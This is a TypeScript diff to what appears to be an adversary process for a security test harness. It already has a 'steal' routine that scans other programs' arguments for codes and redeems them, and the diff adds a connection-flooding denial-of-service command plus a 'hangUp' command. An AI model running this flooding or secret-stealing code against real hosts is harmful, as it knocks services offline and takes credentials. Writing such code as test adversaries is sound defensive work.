@@ -16,6 +16,8 @@ process.setuid?.(NOBODY);
 
 const loot: Loot = { passes: 0, codes: [], files: 0, tokens: 0 };
 const held: Socket[] = [];
+let flooded = 0;
+let flooding = 0;
 
 /** Looks through the arguments of all programs for a code, or a file that leads to one, and redeems it. */
 async function steal(): Promise<never> {
@@ -48,6 +50,19 @@ function readText(file: string): string {
   }
 }
 
+function openSome(port: number, host: string): void {
+  for (let index = 0; index < 60 && flooding < 1_500; index += 1) {
+    flooding += 1;
+    flooded += 1;
+    const socket = connect(port, host);
+    socket.on("error", () => {});
+    socket.once("close", () => {
+      flooding -= 1;
+    });
+    setTimeout(() => socket.destroy(), 3_000).unref();
+  }
+}
+
 async function answer(asked: Asked): Promise<unknown> {
   switch (asked.do) {
     case "steal":
@@ -69,6 +84,19 @@ async function answer(asked: Asked): Promise<unknown> {
         held.push(socket);
       }
       return undefined;
+    case "hangUp": {
+      const socket = connect(asked.port, asked.host);
+      socket.on("error", () => {});
+      const closed = new Promise((resolve) => socket.once("close", resolve));
+      socket.end(asked.message, () => socket.destroy());
+      await closed;
+      return undefined;
+    }
+    case "flood":
+      setInterval(() => openSome(asked.port, asked.host), 5);
+      return undefined;
+    case "flooded":
+      return flooded;
     case "held":
       return {
         connecting: held.filter(({ connecting }) => connecting).length,
